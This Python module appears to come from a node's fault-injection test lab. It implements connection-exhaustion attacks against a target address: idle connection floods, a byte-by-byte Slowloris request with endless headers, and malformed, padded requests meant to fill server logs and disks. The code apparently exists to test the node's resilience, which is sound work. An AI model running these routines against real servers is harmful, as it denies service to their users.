"""What strangers do who say nothing: they take up connections, slowly or by the dozen."""

import asyncio
import logging
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from itertools import chain, cycle

from node.common.address import Address
from node.lab.faults.network.connection_attack import Visit

log = logging.getLogger(__name__)

REQUEST = b"GET /peer HTTP/1.1\r\nHost: peer\r\n"
"""The beginning of an upgrade; its end never comes."""

LONG = b"Long: %s\r\n\r\n" % (b"\x01y" * 3_500)
"""A header that nobody should repeat."""

MALFORMED_REQUESTS = (
    b"GET /peer HTTP/9.z\r\nHost: x\r\n" + LONG,
    b"G\x00T /peer HTTP/1.1\r\n" + LONG,
    b"\x16\x03\x01\x02\r\n" + LONG,  # a TLS hello
    b"GET //[ HTTP/1.1\r\n" + LONG,
    b"POST /peer HTTP/1.1\r\nContent-Length: -1\r\n\r\n",
)
"""One of each kind; 8 kB each, but for the last."""


async def knocking(target: Address) -> None:
    """Opens a connection, and is gone."""
    async with _connection_to(target):
        return


def dribbling(seconds_per_byte: float) -> Visit:
    """Says its request byte by byte, and then headers without end. Source: R. Hansen, "Slowloris", 2009."""

    async def visit(target: Address) -> None:
        async with _connection_to(target) as (reader, writer):
            for byte in chain(REQUEST, cycle(b"X-Header: x\r\n")):
                await _dribble(writer, byte, seconds_per_byte)
                if reader.at_eof():
                    return

    return visit


async def misphrasing(target: Address) -> None:
    """Writes requests that are none, one after the other, over a connection each, and waits to be hung up on.

    What a server notes of each fills logs and disks. Source: "Logjamming" by unbounded logs (CWE-779).
    """
    for request in MALFORMED_REQUESTS:
        async with _connection_to(target) as (reader, writer):
            writer.write(request)
            answer = await reader.read()
            log.debug("a stranger was hung up on with %d bytes", len(answer))


@asynccontextmanager
async def _connection_to(target: Address) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """A TCP connection. Raises OSError."""
    reader, writer = await asyncio.open_connection(*target)
    try:
        yield reader, writer
    finally:
        writer.close()
        with suppress(OSError):  # it was torn down by the other side: closed is closed
            await writer.wait_closed()


async def _dribble(writer: asyncio.StreamWriter, byte: int, seconds: float) -> None:
    """Raises ConnectionError once the other side has hung up."""
    writer.write(bytes([byte]))
    await writer.drain()
    await asyncio.sleep(seconds)
